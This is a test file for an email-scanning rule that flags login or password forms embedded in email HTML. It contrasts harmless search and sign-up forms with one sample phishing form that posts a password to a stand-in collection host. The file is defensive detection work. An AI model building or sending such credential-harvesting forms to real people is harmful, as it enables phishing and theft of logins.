import rule from './login-form-in-email.js';
import { RuleTester } from './rule-tester.js';
import { eml } from './test-utils.js';

const html = (body: string) => ({ input: eml({ from: 'x@example.org', subject: 'Hi', html: body }), channel: 'email' as const });

new RuleTester(import.meta.url).run(rule, {
  valid: [
    { name: 'near misses: a search box, a newsletter sign-up, no form #1', message: html('<form action="https://example.org/search"><input name="q"><input type="submit"></form>') },
    { name: 'near misses: a search box, a newsletter sign-up, no form #2', message: html('<form action="https://example.org/subscribe"><input type="email" name="email"></form>') },
    { name: 'near misses: a search box, a newsletter sign-up, no form #3: Hello', message: html('<p>Hello</p>') },
  ],
  invalid: [
    {
      name: 'flags a password form inside an email',
      message: html('<form action="https://collect.example.top/p.php" method="post"><input name="email"><input type="password" name="pw"><input type="submit"></form>'),
      hits: [
        { messageId: 'sensitiveForm', evidence: [{ kind: 'header', header: 'html-form', value: 'action=https://collect.example.top/p.php; fields=pw' }], data: { fields: 'pw', action: 'collect.example.top' } },
      ],
    },
  ],
});
